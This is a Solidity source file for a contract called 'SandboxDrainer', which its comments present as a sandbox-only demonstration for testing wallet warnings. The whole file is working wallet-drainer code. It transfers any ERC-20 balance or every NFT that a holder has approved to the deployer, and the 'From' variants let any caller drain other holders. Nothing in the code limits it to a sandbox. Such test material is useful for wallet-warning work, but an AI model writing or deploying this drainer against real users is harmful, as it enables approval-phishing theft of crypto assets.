// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IDrainableToken {
    function balanceOf(address account) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

interface IDrainableCollection {
    function totalSupply() external view returns (uint256);
    function ownerOf(uint256 tokenId) external view returns (address);
    function isApprovedForAll(address holder, address operator) external view returns (bool);
    function transferFrom(address from, address to, uint256 tokenId) external;
}

/// @title SandboxDrainer ("Sandbox Drainer")
/// @notice A demonstration of what a wallet must warn about, deployed on the sandbox's chains only:
///         it takes every token a holder approved it for and hands it to its owner (the sandbox's
///         deployer). `drain` takes the caller's whole balance of an ERC-20 the caller approved it for
///         (the second call of an "approve, then drain" batch); `drainFrom` takes what an earlier
///         approval allows from any holder; `drainAll` and `drainAllFrom` take every NFT of a
///         collection after `setApprovalForAll`. Nothing here belongs outside a sandbox.
contract SandboxDrainer {
    string public constant name = "Sandbox Drainer";
    /// @notice Who receives everything drained.
    address public immutable owner;

    event Drained(address indexed token, address indexed from, uint256 amount);
    event DrainedNft(address indexed collection, address indexed from, uint256 indexed tokenId);

    error TransferRefused(address token, address from);

    constructor() {
        owner = msg.sender;
    }

    /// @notice Takes the caller's whole balance of `token` (the caller approved this contract first).
    function drain(address token) external returns (uint256 amount) {
        return _drain(token, msg.sender, IDrainableToken(token).balanceOf(msg.sender));
    }

    /// @notice Takes from `holder` as much of `token` as its balance and its approval of this contract allow.
    function drainFrom(address token, address holder) external returns (uint256 amount) {
        uint256 balance = IDrainableToken(token).balanceOf(holder);
        uint256 allowed = IDrainableToken(token).allowance(holder, address(this));
        return _drain(token, holder, balance < allowed ? balance : allowed);
    }

    /// @notice Takes every NFT of `collection` the caller holds (after the caller's `setApprovalForAll`).
    function drainAll(address collection) external returns (uint256 count) {
        return _drainAll(collection, msg.sender);
    }

    /// @notice Takes every NFT of `collection` that `holder` holds, once `holder` approved this contract for all of them.
    function drainAllFrom(address collection, address holder) external returns (uint256 count) {
        return _drainAll(collection, holder);
    }

    function _drain(address token, address from, uint256 amount) private returns (uint256) {
        if (amount > 0 && !IDrainableToken(token).transferFrom(from, owner, amount)) revert TransferRefused(token, from);
        emit Drained(token, from, amount);
        return amount;
    }

    /// @dev The sandbox's collections number their tokens 1..totalSupply.
    function _drainAll(address collection, address holder) private returns (uint256 count) {
        IDrainableCollection nfts = IDrainableCollection(collection);
        if (!nfts.isApprovedForAll(holder, address(this))) return 0;
        uint256 supply = nfts.totalSupply();
        for (uint256 id = 1; id <= supply; id++) {
            if (nfts.ownerOf(id) != holder) continue;
            nfts.transferFrom(holder, owner, id);
            emit DrainedNft(collection, holder, id);
            count++;
        }
    }
}
